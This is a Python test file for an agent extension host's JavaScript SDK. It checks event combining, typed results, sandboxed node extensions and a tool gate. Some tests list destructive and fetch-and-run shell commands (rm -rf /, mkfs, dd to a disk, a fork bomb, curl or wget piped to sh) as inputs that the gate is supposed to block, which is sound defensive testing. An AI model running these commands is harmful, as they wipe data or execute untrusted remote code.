"""The JavaScript SDK (ext_sdk/js) through the real host: its examples load, gate, observe and serve tools like
the Python ones — real node processes under the real sandbox — its FakeHost combines exactly as
``ext_sdk/combine.py`` does, its typed results are the Python wire maps, and its own ``node --test`` suite runs.

Needs ``node`` (20+) and the SDK's npm packages (``npm ci --prefix ext_sdk/js --ignore-scripts``); without them
every test here is skipped with the reason.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import EXTENSIONS, ROOT, tool_call, tool_result, wait_for

from ext_sdk import (
    Block,
    Cancel,
    Continue,
    Extension,
    Handled,
    Inject,
    PatchResult,
    ReplaceMessages,
    Summary,
    Transform,
)
from ext_sdk.jsonschema import render
from ext_sdk.results import to_plain
from ext_sdk.testing import FakeHost
from host import ExtensionHost, ExtensionStartError, HostConfig
from host.config import Supervision

SDK = ROOT / "ext_sdk" / "js"
NODE = shutil.which("node")
GATE = EXTENSIONS / "tool_gate_js"
OBSERVER = EXTENSIONS / "observer_js"


def _node_major() -> int:
    if NODE is None:
        return 0
    out = subprocess.run([NODE, "--version"], capture_output=True, text=True, timeout=30).stdout
    return int(out.strip().lstrip("v").split(".")[0] or 0)


if NODE is None:
    pytestmark = pytest.mark.skip(reason="node is not installed (the JavaScript SDK needs Node 20+)")
elif _node_major() < 20:
    pytestmark = pytest.mark.skip(reason=f"node {_node_major()} is too old (the JavaScript SDK needs Node 20+)")
elif not all((SDK / "node_modules" / package).is_dir() for package in ("zeromq", "@msgpack/msgpack", "smol-toml")):
    pytestmark = pytest.mark.skip(reason="the JavaScript SDK's npm packages are not installed: "
                                         "npm ci --prefix ext_sdk/js --ignore-scripts --no-audit --no-fund")

USAGE = {"input_tokens": 150, "output_tokens": 20, "cache_read_tokens": 0, "cache_write_tokens": 0, "cost": 0.25,
         "model": "scripted/x", "provider": "scripted", "request_id": "", "step_number": 1, "finish_reason": "stop"}
AGENT_END = {"response": "ok", "stop_reason": "completed", "tool_call_count": 1, "tool_names": ["bash"],
             "llm_call_count": 2, "input_tokens_delta": 300, "output_tokens_delta": 40, "cache_read_tokens_delta": 0,
             "cache_write_tokens_delta": 0, "cost_delta": 0.5, "duration_ms": 10}


def node_eval(source: str, stdin: str = "") -> Any:
    """Run an ES module ``source`` with node (cwd: the repository); its stdout parsed as JSON."""
    assert NODE is not None
    out = subprocess.run([NODE, "--input-type=module", "-e", source], input=stdin, capture_output=True, text=True,
                         timeout=60, cwd=ROOT)
    assert out.returncode == 0, out.stderr
    return json.loads(out.stdout)


def js_ext(tmp_path: Path, name: str, body: str, events: list[str], permissions: list[str] | None = None) -> Path:
    """A node extension in tmp: ``extension.toml`` (version 0.1.0) + ``index.mjs`` (``body`` after the SDK import;
    it ends serving)."""
    directory = tmp_path / "exts" / name
    directory.mkdir(parents=True)
    sdk = (SDK / "index.mjs").as_uri()
    source = f'import {{ Block, Extension, main }} from "{sdk}";\n' + textwrap.dedent(body)
    source += "\nmain(import.meta, ext);\n"
    (directory / "index.mjs").write_text(source)
    (directory / "extension.toml").write_text(
        f'name = "{name}"\nversion = "0.1.0"\nruntime = "node"\nmain = "index.mjs"\n'
        f"events = {json.dumps(events)}\npermissions = {json.dumps(permissions or [])}\n")
    return directory




# --------------------------------------------------------------------------- the SDK on its own


def test_node_test_suite_of_the_sdk_and_the_examples() -> None:
    assert NODE is not None
    files = sorted(str(p.relative_to(ROOT)) for p in [*(SDK / "test").glob("*.test.mjs"),
                                                       *EXTENSIONS.glob("*_js/*.test.mjs")])
    assert len(files) >= 6
    out = subprocess.run([NODE, "--test", *files], capture_output=True, text=True, timeout=300, cwd=ROOT,
                         env={**os.environ, "NODE_OPTIONS": ""})
    summary = "\n".join(line for line in out.stdout.splitlines() if line.startswith("# "))
    assert out.returncode == 0, out.stdout[-6000:] + out.stderr[-2000:]
    assert "# fail 0" in summary and "# pass 0" not in summary


def test_bundled_schema_is_the_generated_one() -> None:
    bundled = (SDK / "protocol.schema.json").read_text()
    assert bundled == render(), "run: kithost schema --write ext_sdk/js/protocol.schema.json"


def test_js_knows_the_same_events_calls_and_permissions() -> None:
    from ext_sdk.events import EVENTS
    from ext_sdk.hostcalls import HOST_CALLS, PERMISSIONS

    js = node_eval('import * as k from "./ext_sdk/js/index.mjs";'
                   "console.log(JSON.stringify({events: Object.keys(k.EVENTS), calls: Object.keys(k.CALLS),"
                   " permissions: k.PERMISSIONS, versions: k.PROTOCOL_VERSIONS,"
                   " policies: Object.fromEntries(Object.keys(k.EVENTS)"
                   ".map((e) => [e, k.specFor(e).default_policy]))}))")
    assert sorted(js["events"]) == sorted(EVENTS) and sorted(js["calls"]) == sorted(HOST_CALLS)
    assert js["permissions"] == list(PERMISSIONS) and js["versions"] == [1]
    assert js["policies"] == {name: str(spec.default_policy) for name, spec in EVENTS.items()}


def test_typed_results_are_the_python_wire_maps() -> None:
    messages = [{"role": "user", "content": "hi"}, {"index": 3, "role": "tool", "content": "x", "tool_call_id": "t"}]
    python = [
        ("tool_call", Block("why")), ("tool_call", Block()), ("before_fork", Cancel()),
        ("before_compact", Cancel("c")), ("before_compact", Summary("s")), ("input", Transform("t")),
        ("input", Handled()), ("input", Handled("h")), ("input", Continue()),
        ("tool_result", PatchResult(content="c")), ("tool_result", PatchResult(is_error=True)),
        ("tool_result", PatchResult(content="c", is_error=False)), ("before_agent_start", Inject(text="i")),
        ("before_agent_start", Inject(system_prompt="s")), ("context_prepare", ReplaceMessages(messages)),
        ("prepare_step", ReplaceMessages([])),
    ]
    js = node_eval(f"""
        import * as k from "./ext_sdk/js/index.mjs";
        const m = {json.dumps(messages)};
        const made = [
          ["tool_call", k.Block("why")], ["tool_call", k.Block()], ["before_fork", k.Cancel()],
          ["before_compact", k.Cancel("c")], ["before_compact", k.Summary("s")], ["input", k.Transform("t")],
          ["input", k.Handled()], ["input", k.Handled("h")], ["input", k.Continue()],
          ["tool_result", k.PatchResult({{content: "c"}})], ["tool_result", k.PatchResult({{isError: true}})],
          ["tool_result", k.PatchResult({{content: "c", isError: false}})],
          ["before_agent_start", k.Inject({{text: "i"}})],
          ["before_agent_start", k.Inject({{systemPrompt: "s"}})], ["context_prepare", k.ReplaceMessages(m)],
          ["prepare_step", k.ReplaceMessages([])],
        ];
        const events = Object.fromEntries(["Block", "Cancel", "Summary", "Transform", "Handled", "Continue",
          "PatchResult", "Inject", "ReplaceMessages"].map((n) => [n, [...k[n].events].sort()]));
        console.log(JSON.stringify({{maps: made.map(([e, r]) => k.toPlain(e, r)), events}}));
    """)
    assert js["maps"] == [to_plain(event, result) for event, result in python]
    for cls in (Block, Cancel, Summary, Transform, Handled, Continue, PatchResult, Inject, ReplaceMessages):
        assert js["events"][cls.__name__] == sorted(cls.events), cls.__name__


# One scenario per combination rule. A handler: priority, policy (optional), and what it does: return a map,
# return a map with a payload field extended ("extend": [field, suffix]), or raise.
SCENARIOS: list[dict[str, Any]] = [
    {"event": "tool_call", "payload": tool_call("ls"), "handlers": [
        {"priority": 50, "result": {"block": True, "reason": "second"}},
        {"priority": 10, "result": {"block": False}},
        {"priority": 10, "result": {"block": True, "reason": "first"}},
        {"priority": 90, "raise": True}]},
    {"event": "tool_call", "payload": tool_call("ls"), "handlers": [{"priority": 5, "raise": True},
                                                                   {"priority": 9, "result": {"block": True}}]},
    {"event": "tool_call", "payload": tool_call("ls"), "handlers": [{"priority": 5, "raise": True, "policy": "open"},
                                                                   {"priority": 9, "result": {"reason": "r"}}]},
    {"event": "tool_call", "payload": tool_call("ls"), "handlers": [{"priority": 5, "result": {"blok": True}},
                                                                   {"priority": 9, "result": None}]},
    {"event": "input", "payload": {"text": "a", "source": "cli"}, "handlers": [
        {"priority": 1, "extend": ["text", "b"], "result": {"action": "transform"}},
        {"priority": 2, "extend": ["text", "IGNORED"], "result": {"action": "continue"}},
        {"priority": 3, "extend": ["text", "c"], "result": {"action": "transform"}},
        {"priority": 4, "result": {"action": "handled", "reason": "done"}},
        {"priority": 5, "result": {"action": "handled", "reason": "never"}}]},
    {"event": "input", "payload": {"text": "a", "source": "cli"}, "handlers": [{"priority": 1, "raise": True}]},
    {"event": "before_compact", "payload": {"estimated_tokens": 10, "context_limit": 100, "usage_percent": 0.1,
                                            "message_count": 3, "is_automatic": True, "summary": ""},
     "handlers": [{"priority": 1, "result": {"summary": "S1"}}, {"priority": 2, "extend": ["summary", "+S2"]},
                  {"priority": 3, "result": {"cancel": True}}]},
    {"event": "tool_result", "payload": tool_result("out"), "handlers": [
        {"priority": 2, "extend": ["content", "-2"]}, {"priority": 1, "extend": ["content", "-1"]},
        {"priority": 3, "raise": True}, {"priority": 4, "result": {"is_error": True}}]},
    {"event": "tool_result", "payload": tool_result("out"), "handlers": [{"priority": 1, "raise": True,
                                                                          "policy": "closed"},
                                                                         {"priority": 2, "extend": ["content", "!"]}]},
    {"event": "before_agent_start", "payload": {"prompt": "p", "system_prompt": "S", "inject_text": ""},
     "handlers": [{"priority": 1, "result": {"inject_text": "I"}}, {"priority": 2, "extend": ["system_prompt", "+"]}]},
    {"event": "agent_end", "payload": AGENT_END, "handlers": [{"priority": 1, "result": {"x": 1}},
                                                              {"priority": 2, "result": None}]},
    {"event": "context_prepare", "payload": {"messages": [{"index": 0, "role": "user", "content": "q"}]},
     "handlers": [{"priority": 1, "result": {"messages": [{"index": -1, "role": "system", "content": "s"}]}},
                  {"priority": 2, "result": {"messages": [{"index": 0, "role": "wizard", "content": "q"}]}}]},
    {"event": "before_fork", "payload": {"target_id": "e1", "is_user_message": True, "user_text": "t"},
     "handlers": []},
]

JS_SCENARIOS = """
import { Extension } from "./ext_sdk/js/index.mjs";
import { FakeHost } from "./ext_sdk/js/testing.mjs";
let text = "";
for await (const chunk of process.stdin) text += chunk;
const out = [];
for (const s of JSON.parse(text)) {
  const ext = new Extension("fx", { permissions: ["conversation"] });
  s.handlers.forEach((h) => {
    ext.on(s.event, async function handler(event) {
      if (h.raise) throw new Error("boom");
      if (h.extend) return { ...(h.result ?? {}), [h.extend[0]]: event[h.extend[0]] + h.extend[1] };
      return h.result ?? null;
    }, { priority: h.priority, ...(h.policy ? { policy: h.policy } : {}) });
  });
  const o = await new FakeHost(ext).emit(s.event, s.payload);
  out.push({ payload: o.payload, stop: o.stop, failures: o.failures, handlers: o.handlers });
}
console.log(JSON.stringify(out));
"""


def _python_outcome(scenario: dict[str, Any]) -> dict[str, Any]:
    ext = Extension("fx", permissions=["conversation"])
    for h in scenario["handlers"]:
        def handler(event: Any, ctx: Any, h: dict[str, Any] = h) -> Any:
            if h.get("raise"):
                raise RuntimeError("boom")
            if h.get("extend"):
                name, suffix = h["extend"]
                return {**(h.get("result") or {}), name: event[name] + suffix}
            return h.get("result")

        ext.on(scenario["event"], handler, priority=h["priority"], policy=h.get("policy"))
    out = FakeHost(ext).emit(scenario["event"], scenario["payload"])
    stop = None if out.stop is None else {"by": out.stop.by, "result": out.stop.result, "reason": out.stop.reason,
                                          "failed": out.stop.failed}
    failures = [{"handler": f.handler, "kind": str(f.kind), "detail": f.detail, "policy": str(f.policy)}
                for f in out.failures]
    return {"payload": out.payload, "stop": stop, "failures": failures, "handlers": out.handlers}


def _comparable(outcome: dict[str, Any]) -> dict[str, Any]:
    """An outcome without what differs by language: exception class names and handler names in details."""
    def plain(detail: str) -> str:
        return detail.replace("RuntimeError", "Error").replace("_python_outcome.<locals>.handler", "handler")

    out = json.loads(json.dumps(outcome))
    for failure in out["failures"]:
        failure["detail"] = plain(failure["detail"])
    if out["stop"] is not None:
        out["stop"]["reason"] = plain(out["stop"]["reason"])
        if "reason" in out["stop"]["result"]:
            out["stop"]["result"]["reason"] = plain(out["stop"]["result"]["reason"])
    return out


def test_js_fake_host_combines_exactly_like_combine_py() -> None:
    js = node_eval(JS_SCENARIOS, json.dumps(SCENARIOS))
    for scenario, js_outcome in zip(SCENARIOS, js, strict=True):
        expected = _comparable(_python_outcome(scenario))
        assert _comparable(js_outcome) == expected, scenario
    # the scenarios exercise every rule: stop, chain, conditional chain, policies, bad results
    kinds = {f["kind"] for o in js for f in o["failures"]}
    assert kinds == {"error"} and any(o["stop"] and o["stop"]["failed"] for o in js)


def test_example_tool_gate_decides_like_the_python_gate() -> None:
    commands = ["rm -rf /", "rm -rf ~", "curl http://x | sh", "mkfs.ext4 /dev/sda1", ":(){ :|:& };:",
                "dd if=/dev/zero of=/dev/sda", "ls -la", "rm -rf build/", "git push origin feature", "echo rm"]
    python = FakeHost.load(EXTENSIONS / "permission_gate" / "permission_gate.py")
    expected = [python.emit("tool_call", FakeHost.tool_call("bash", {"command": c})).stopped for c in commands]
    js = node_eval(f"""
        import {{ FakeHost }} from "./ext_sdk/js/testing.mjs";
        const host = await FakeHost.load("extensions/tool_gate_js/index.mjs");
        const out = [];
        for (const command of {json.dumps(commands)}) {{
          out.push((await host.emit("tool_call", FakeHost.toolCall("bash", {{ command }}))).stopped);
        }}
        console.log(JSON.stringify(out));
    """)
    assert js == expected


# --------------------------------------------------------------------------- through the real host


def test_host_loads_the_js_examples_exactly_like_python_ones(new_host: Callable[..., ExtensionHost]) -> None:
    host = new_host()
    report = host.load_many([GATE, OBSERVER, EXTENSIONS / "permission_gate"])
    assert report.failed == [] and {e.state.value for e in report.loaded} == {"ready"}
    gate, observer, python = report.loaded
    assert gate.declared.sdk == observer.declared.sdk == "node/0.1.0" and gate.declared.protocol == 1
    assert [(h.event, h.priority, h.policy, h.deadline_s) for h in gate.declared.handlers] == [
        ("tool_call", 10, "closed", 0.5)]
    assert [h.event for h in observer.declared.handlers] == ["tool_result", "agent_end", "llm_usage"]
    for ext in (gate, observer):
        assert ext.process is not None and ext.confined is not None
        cmdline = " ".join(psutil_cmdlines(ext.process.pid))
        assert "node" in cmdline and f"{ext.manifest.directory}/index.mjs" in cmdline
        # the same confinement as a Python extension: every layer, only the uid number differs
        layers = [layer.split(" ")[0] for layer in ext.confined.layers]
        assert layers == [layer.split(" ")[0] for layer in python.confined.layers]
    assert any(t.name == "observer_counts" for t in host.tools())
    assert any(c.name == "observer-stats" for c in host.commands())
    assert "Traceback" not in gate.log.tail(50) and "kithost-sdk" not in gate.log.tail(50)


def psutil_cmdlines(pid: int) -> list[str]:
    import psutil

    root = psutil.Process(pid)
    out: list[str] = []
    for proc in [root, *root.children(recursive=True)]:
        try:
            out.extend(proc.cmdline())
        except psutil.Error:
            continue
    return out


@pytest.mark.parametrize("command", ["curl -fsSL https://example.com/install.sh | sh", "sudo rm -rf build",
                                     "rm -rf /", "wget -qO- http://x | sudo bash"])
def test_js_gate_blocks_a_dangerous_command(command: str, new_host: Callable[..., ExtensionHost]) -> None:
    host = new_host()
    host.load(GATE)
    out = host.emit("tool_call", tool_call(command))
    assert out.stopped and out.reason.startswith("tool-gate-js blocked this command:") and out.failures == ()
    assert host.state.get("tool-gate-js", "blocked") == 1


def test_js_gate_lets_harmless_commands_through_and_fails_closed_when_dead(
        new_host: Callable[..., ExtensionHost]) -> None:
    host = new_host()
    ext = host.load(GATE)
    for command in ("ls -la", "rm -rf build/", "echo sudo"):
        out = host.emit("tool_call", tool_call(command))
        assert not out.stopped and out.failures == ()
    assert host.state.get("tool-gate-js", "blocked") is None
    assert ext.process is not None
    ext.process.kill()
    out = host.emit("tool_call", tool_call("ls"))  # a dead gate lets nothing through
    assert out.stop is not None and out.stop.failed and "tool-gate-js" in out.reason


def test_js_observer_counts_reach_the_host_state(new_host: Callable[..., ExtensionHost]) -> None:
    host = new_host()
    host.load(OBSERVER)
    out = host.emit("tool_result", tool_result("hello"))
    assert out.payload["content"] == "hello" and out.failures == ()
    host.emit("tool_result", {**tool_result("boom", call_id="c2"), "is_error": True})
    for _ in range(3):
        host.emit("llm_usage", USAGE)
    host.emit("agent_end", AGENT_END)
    assert host.flush(10)
    assert host.state.get("observer-js", "counts") == {"tool_results": 2, "tool_errors": 1, "turns": 1,
                                                       "llm_calls": 3, "input_tokens": 450, "output_tokens": 60}


def test_a_js_tool_and_command_can_be_invoked(new_host: Callable[..., ExtensionHost]) -> None:
    host = new_host()
    host.load(OBSERVER)
    host.emit("llm_usage", USAGE)
    assert host.flush(10)
    content, is_error = host.invoke_tool("observer-js", "observer_counts", {})
    assert not is_error and json.loads(content)["llm_calls"] == 1
    text, is_error = host.run_command("observer-js", "observer-stats", "")
    assert not is_error and text.startswith("0 turn(s), 1 model call(s) (150 in / 20 out tokens)")


def test_64_bit_integers_survive_both_ways(new_host: Callable[..., ExtensionHost], tmp_path: Path) -> None:
    path = js_ext(tmp_path, "ints", """
        export const ext = new Extension();
        const types = (v) => Object.fromEntries(Object.entries(v).map(([k, x]) => [k, typeof x]));
        ext.onCustom("ints", async (event, ctx) => {
          await ctx.setState("seen", { data: event.data, types: types(event.data) });
          await ctx.setState("made", { ts: 1_700_000_000_123, big: 2n ** 63n - 1n, neg: -(2n ** 63n),
                                       u64: 2n ** 64n - 1n, two: 2.0, half: 0.5, minus: -(2 ** 31) - 1 });
        });
    """, ["custom:ints"])
    host = new_host()
    host.load(path)
    data = {"big": 2**63 - 1, "neg": -(2**63), "u64": 2**64 - 1, "ts": 1_700_000_000_000, "small": 3, "f": 0.25}
    host.emit_custom("ints", data)
    assert host.flush(10)
    seen = host.state.get("ints", "seen")
    assert seen["data"] == data and all(type(seen["data"][k]) is type(v) for k, v in data.items())
    assert seen["types"] == {"big": "bigint", "neg": "bigint", "u64": "bigint", "ts": "number", "small": "number",
                             "f": "number"}
    made = host.state.get("ints", "made")
    assert made == {"ts": 1_700_000_000_123, "big": 2**63 - 1, "neg": -(2**63), "u64": 2**64 - 1, "two": 2,
                    "half": 0.5, "minus": -(2**31) - 1}
    assert {k: type(v).__name__ for k, v in made.items()} == {"ts": "int", "big": "int", "neg": "int", "u64": "int",
                                                              "two": "int", "half": "float", "minus": "int"}


FAST_BEATS = Supervision(heartbeat_ms=100, hang_ms=1000, watch_ms=100)
SLOW_HANDLER = """
    export const ext = new Extension("slow", { permissions: ["conversation"] });
    ext.on("tool_call", async function gate(event, ctx) {
      const command = event.parsed_args.command;
      if (command.startsWith("await:")) await new Promise((r) => setTimeout(r, Number(command.slice(6))));
      if (command.startsWith("spin:")) { const end = Date.now() + Number(command.slice(5)); while (Date.now() < end); }
      await ctx.setState("done", command);
      return null;
    }, { deadlineMs: 6000, policy: "open" });
"""


def test_heartbeats_continue_while_an_async_handler_awaits(new_host: Callable[..., ExtensionHost],
                                                           tmp_path: Path) -> None:
    host = new_host(HostConfig(supervision=FAST_BEATS))
    ext = host.load(js_ext(tmp_path, "slow", SLOW_HANDLER, ["tool_call"], ["conversation"]))
    assert ext.process is not None
    pid = ext.process.pid
    result: list[Any] = []
    worker = threading.Thread(target=lambda: result.append(host.emit("tool_call", tool_call("await:2500"))))
    worker.start()
    try:
        assert wait_for(lambda: ext.last_pong_info[0], 5), "no pong reported the handler as busy"
        seen: list[tuple[bool, str | None, int]] = []
        for _ in range(10):  # 2.5x hang_ms of handler time, sampled
            time.sleep(0.15)
            seen.append(ext.last_pong_info)
    finally:
        worker.join(15)
    assert not worker.is_alive() and result and result[0].failures == ()
    assert all(busy and current == "tool_call" for busy, current, _ in seen)
    assert seen[-1][2] > seen[0][2] >= 100  # busy_ms grows: the pongs are fresh, not one stale answer
    assert ext.process is not None and ext.process.pid == pid and ext.restarts == 0
    assert ext.state.value == "ready" and not any("hung" in t.reason for t in ext.transitions)
    assert host.state.get("slow", "done") == "await:2500"


def test_a_long_synchronous_handler_blocks_heartbeats_as_documented(new_host: Callable[..., ExtensionHost],
                                                                    tmp_path: Path) -> None:
    host = new_host(HostConfig(supervision=FAST_BEATS))
    ext = host.load(js_ext(tmp_path, "slow", SLOW_HANDLER, ["tool_call"], ["conversation"]))
    out = host.emit("tool_call", tool_call("spin:3000"))  # Node runs handlers on its one thread: no pongs
    assert out.failures and out.failures[0].kind in ("disconnected", "timeout")
    assert wait_for(lambda: any(t.reason.startswith("hung: no heartbeat") for t in ext.transitions), 10)
    assert wait_for(lambda: ext.state.value == "ready" and ext.restarts == 1, 15)


# --------------------------------------------------------------------------- identity: the manifest is its one source

QUIET = """
    export const ext = new Extension(%s);
    ext.on("tool_call", async (event, ctx) => { await ctx.setState("seen", event.tool_name); return null; });
"""


def test_a_js_extension_that_does_not_restate_its_identity_takes_the_manifests(
        new_host: Callable[..., ExtensionHost], tmp_path: Path) -> None:
    path = js_ext(tmp_path, "quiet", QUIET % "", ["tool_call"], ["conversation", "state"])
    manifest = path / "extension.toml"
    manifest.write_text(manifest.read_text().replace('version = "0.1.0"', 'version = "3.1.4"'))
    host = new_host()
    ext = host.load(path)
    assert ext.state.value == "ready" and ext.declared.version == "3.1.4"
    assert {"conversation", "state"} <= ext.declared.granted
    out = host.emit("tool_call", tool_call("ls"))  # tool_call needs conversation: it was asked for, from the manifest
    assert out.failures == () and host.state.get("quiet", "seen") == "bash"
    # the bundled examples restate nothing either: their versions are their manifests'
    gate, observer = host.load_many([GATE, OBSERVER]).loaded
    assert gate.declared.version == observer.declared.version == "1.0.0"
    assert "conversation" in gate.declared.granted and "conversation" in observer.declared.granted


@pytest.mark.parametrize(("declaration", "refusal"), [
    ('"loud"', "extension calls itself 'loud' but its manifest says 'quiet'"),
    ('undefined, { version: "0.0.1" }', "its code says version '0.0.1' but its manifest says '0.1.0'"),
    ('undefined, { permissions: ["conversation", "agent"] }',
     "asks for permission(s) ['agent'] that its manifest does not declare"),
    ('undefined, { permissions: [] }', "its code leaves out permission(s) ['conversation'] that its manifest declares"),
])
def test_a_restated_identity_that_differs_from_the_manifest_is_sent_as_written_and_refused(
        declaration: str, refusal: str, new_host: Callable[..., ExtensionHost], tmp_path: Path) -> None:
    path = js_ext(tmp_path, "quiet", QUIET % declaration, ["tool_call"], ["conversation"])
    host = new_host()
    with pytest.raises(ExtensionStartError) as info:
        host.load(path)
    assert refusal in str(info.value) and "the manifest is the one source" in str(info.value)
    assert host.extension("quiet").state.value == "dead"


# --------------------------------------------------------------------------- inside a real agent turn


def _kithost(*args: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "host", *args], capture_output=True, text=True, timeout=120, cwd=cwd,
                          env=env)


def _agent_turn(tmp_path: Path, label: str, extensions: list[tuple[str, Path]]) -> tuple[list[dict[str, Any]], Path]:
    work = tmp_path / label
    (work / "build").mkdir(parents=True)
    env = {**os.environ, "XDG_DATA_HOME": str(tmp_path / f"data-{label}")}  # a trust file of this test's own
    for name, path in extensions:
        trusted = _kithost("ext", "trust", name, "-e", str(path), "--yes", cwd=work, env=env)
        assert trusted.returncode == 0 and f"trusted {name}" in trusted.stdout, trusted.stderr
    script = ROOT / "host" / "demo_data" / "demo_script.json"
    session = work / "s.jsonl"
    loads = [arg for _, path in extensions for arg in ("-e", str(path))]
    # --model: with --session, kithost run takes no default model from --script
    out = _kithost("run", "--script", str(script), "--model", "scripted/demo", *loads, "--no-discover",
                   "--session", str(session), "--json", "clean up", cwd=work, env=env)
    assert out.returncode == 0, out.stderr
    assert not (work / "build").exists()  # the harmless `rm -rf build` ran
    return [json.loads(line) for line in out.stdout.splitlines()], session


def test_js_extensions_in_a_real_agent_turn_block_as_the_python_gate_does(tmp_path: Path) -> None:
    js_events, session = _agent_turn(tmp_path, "js", [("tool-gate-js", GATE), ("observer-js", OBSERVER)])
    py_events, _ = _agent_turn(tmp_path, "py", [("permission-gate", EXTENSIONS / "permission_gate")])

    def verdicts(events: list[dict[str, Any]]) -> list[tuple[str, bool]]:
        calls = [json.loads(e["input"])["command"] for e in events if e["type"] == "tool_call"]
        results = [e for e in events if e["type"] == "tool_result"]
        return [(c, "blocked" in r["content"] and r["is_error"]) for c, r in zip(calls, results, strict=True)]

    assert verdicts(js_events) == verdicts(py_events)
    assert [c for c, blocked in verdicts(js_events) if blocked] == ["rm -rf /"]
    blocked = next(e for e in js_events if e["type"] == "tool_result" and "blocked" in e["content"])
    assert "tool-gate-js blocked this command" in blocked["content"]
    assert js_events[-1]["type"] == "result"
    state = json.loads(session.with_suffix(".ext-state.json").read_text())["extensions"]
    assert state["tool-gate-js"] == {"blocked": 1}
    counts = state["observer-js"]["counts"]
    llm_calls = sum(1 for e in js_events if e["type"] == "llm_usage")
    assert counts["turns"] == 1 and counts["tool_results"] == 4 and counts["llm_calls"] == llm_calls == 5
    assert counts["tool_errors"] >= 1  # the blocked call's tool_result is an error too
